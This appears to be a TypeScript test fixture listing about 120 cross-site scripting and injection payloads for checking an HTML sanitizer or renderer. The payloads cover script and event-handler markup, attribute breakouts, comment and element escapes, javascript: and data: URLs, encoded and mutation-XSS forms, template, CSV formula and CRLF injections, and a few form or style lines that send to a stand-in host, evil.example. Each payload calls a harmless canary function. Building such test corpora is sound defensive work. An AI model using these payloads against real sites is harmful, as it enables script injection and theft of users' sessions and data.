// A hundred and twenty hostile texts (WEB-04). Each breaks out of another place, or hides in another encoding.

/** What a text calls where it runs. */
export const RAN = "tillRan";

/** Markup where words are expected. */
const MARKUP = [
  `<script>tillRan()</script>`,
  `<SCRIPT/x>tillRan()</SCRIPT>`,
  `<scr<script>ipt>tillRan()</scr</script>ipt>`,
  `<script src=data:,tillRan()></script>`,
  `<script type=module>tillRan()</script>`,
  `<script>tillRan()`,
  `<img src=x onerror=tillRan()>`,
  `<img src=x onerror="tillRan()">`,
  `<img/src="x"/onerror=tillRan()//`,
  `<image href=x onerror=tillRan()>`,
  `<svg onload=tillRan()>`,
  `<svg><script>tillRan()</script></svg>`,
  `<svg/onload=&#116;illRan()>`,
  `<svg><animate onbegin=tillRan() attributeName=x dur=1s>`,
  `<svg><a xlink:href=javascript:tillRan()><text y=9>x</text></a>`,
  `<svg><use href=data:image/svg+xml,tillRan()#x>`,
  `<math href=javascript:tillRan()>x</math>`,
  `<math><mi//xlink:href="data:x,<script>tillRan()</script>">`,
  `<body onload=tillRan()>`,
  `<html onmouseenter=tillRan()>`,
  `<video autoplay onloadstart=tillRan() src=x></video>`,
  `<audio src=x onerror=tillRan()>`,
  `<video><source onerror=tillRan()></video>`,
  `<details open ontoggle=tillRan()>`,
  `<input autofocus onfocus=tillRan()>`,
  `<select autofocus onfocus=tillRan()>`,
  `<b contenteditable autofocus onfocus=tillRan()>x`,
  `<marquee onstart=tillRan()>x</marquee>`,
  `<p style=animation:arrive onanimationstart=tillRan()>`,
  `<i popover id=p onbeforetoggle=tillRan()></i><a popovertarget=p>`,
];

/** The end of a quoted or a bare attribute. */
const ATTRIBUTE = [
  `"><script>tillRan()</script>`,
  `'><img src=x onerror=tillRan()>`,
  `" onmouseover="tillRan()" autofocus onfocus="tillRan()" x="`,
  `' autofocus onfocus='tillRan()' x='`,
  ` autofocus onfocus=tillRan() x=`,
  `\` onfocus=tillRan() autofocus \``,
  `"/onpointerrawupdate=tillRan()/x="`,
  `x"\fonfocus=tillRan()\fautofocus\fx="`,
  `x"\tonfocus=tillRan()\tautofocus\tx="`,
  `x"\nonfocus=tillRan()\nautofocus\nx="`,
  `" style="background:url(javascript:tillRan())" x="`,
  `" type="image" src="x" onerror="tillRan()" x="`,
  `" formaction="javascript:tillRan()" x="`,
  `" accesskey="x" onclick="tillRan()" x="`,
  `\\" onfocus=tillRan() autofocus x=\\"`,
  `"">''><svg/onload=tillRan()>`,
];

/** The end of an element that holds text alone, or of a comment. */
const END = [
  `</textarea><script>tillRan()</script>`,
  `</title><script>tillRan()</script>`,
  `</style><script>tillRan()</script>`,
  `</script><script>tillRan()</script>`,
  `</noscript><img src=x onerror=tillRan()>`,
  `</option></select><svg onload=tillRan()>`,
  `</datalist><img src=x onerror=tillRan()>`,
  `</template><img src=x onerror=tillRan()>`,
  `</xmp></iframe></noembed><img src=x onerror=tillRan()>`,
  `</button></form><form action=javascript:tillRan()><button>x`,
  `</table></bdi></td><img src=x onerror=tillRan()>`,
  `</dialog></details><svg onload=tillRan()>`,
  `</svg></math><img src=x onerror=tillRan()>`,
  `--><script>tillRan()</script><!--`,
  `--!><img src=x onerror=tillRan()>`,
  `<!--<img src="--><img src=x onerror=tillRan()//">`,
  `<!--><svg onload=tillRan()>`,
  `<![CDATA[><img src=x onerror=tillRan()>]]>`,
  `]]><img src=x onerror=tillRan()>`,
  `<?x ><img src=x onerror=tillRan()>?>`,
  `</ tillRan><img src=x onerror=tillRan()>`,
  `<plaintext onclick=tillRan()>`,
];

/** What frames, loads or leads elsewhere, and addresses that run. */
const LEADS = [
  `<iframe srcdoc="<script>parent.tillRan()</script>">`,
  `<iframe src="javascript:parent.tillRan()">`,
  `<object data="data:text/html,<script>opener.tillRan()</script>">`,
  `<embed src="javascript:tillRan()">`,
  `<base href="javascript:/a/-tillRan()//">`,
  `<meta http-equiv=refresh content="0;url=javascript:tillRan()">`,
  `<link rel=stylesheet href=data:text/css,*{content:"tillRan"}>`,
  `<style>@import'x';</style><style onload=tillRan()>`,
  `<style>*{background:url(//evil.example/tillRan)}</style>`,
  `<a href="data:text/html,<script>tillRan()</script>" id=main name=form_token>`,
  `<a href=" &#1; javascript:tillRan()">x</a>`,
  `<form action=//evil.example id=find><input name=form_token value=tillRan>`,
  `<button form=bulk formaction=//evil.example/tillRan>x</button>`,
  `javascript:tillRan()`,
  `JaVaScRiPt:tillRan()`,
  `java\tscript:tillRan()`,
  `\u0001javascript:tillRan()`,
  `javascript://x%0atillRan()`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQudGlsbFJhbigpPC9zY3JpcHQ+`,
  `//evil.example/tillRan`,
  `/\\evil.example/tillRan`,
];

/** What becomes markup when it is decoded, folded or repaired once too often. */
const CODED = [
  `%3Cscript%3EtillRan()%3C/script%3E`,
  `%253Cimg%2520src=x%2520onerror=tillRan()%253E`,
  `&lt;script&gt;tillRan()&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=tillRan()&amp;gt;`,
  `&#60;img src=x onerror=tillRan()&#62;`,
  `&#x3c;svg onload=tillRan()&#x3e`,
  `\\u003cscript\\u003etillRan()\\u003c/script\\u003e`,
  `\\x3csvg onload=tillRan()\\x3e`,
  `+ADw-script+AD4-tillRan()+ADw-/script+AD4-`,
  `\u202e<script>tillRan()</script>\u202c 🎁 \u0301`,
  `\uff1cscript\uff1etillRan()\uff1c/script\uff1e`,
  `<\u017fcript>tillRan()</\u017fcript>`,
  `\ufeff<script>tillRan()</script>`,
  `<scr\u00adipt>tillRan()</scr\u00adipt>`,
  `<img src=x\u2028onerror=tillRan()>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=tillRan()&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=tillRan()>">`,
  `<svg></p><style><a id="</style><img src=x onerror=tillRan()>">`,
];

/** What other readers than browsers take for more than text: templates, scripts, lists, messages. */
const OTHERS = [
  `{{constructor.constructor('tillRan()')()}}`,
  `{%raw%}{{tillRan()|safe}}{%endraw%}`,
  `\${tillRan()}<%= tillRan() %>#{tillRan()}[[\${tillRan()}]]`,
  `\\"-tillRan()-\\"`,
  `';tillRan();'`,
  `\`;tillRan();\``,
  `"}]</script><script>tillRan()//`,
  `=cmd|'/C tillRan'!A0`,
  `@SUM(1+1)*tillRan()`,
  `x\r\n\r\n<script>tillRan()</script>`,
  `x\n\nevent: again\ndata: {"tillRan":1}\n\n`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=tillRan() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=tillRan()//>\\x3e`,
  `<main id=say name=body><img name=cookie src=x alt=tillRan>`,
];

export const TEXTS = [MARKUP, ATTRIBUTE, END, LEADS, CODED, OTHERS].flat();
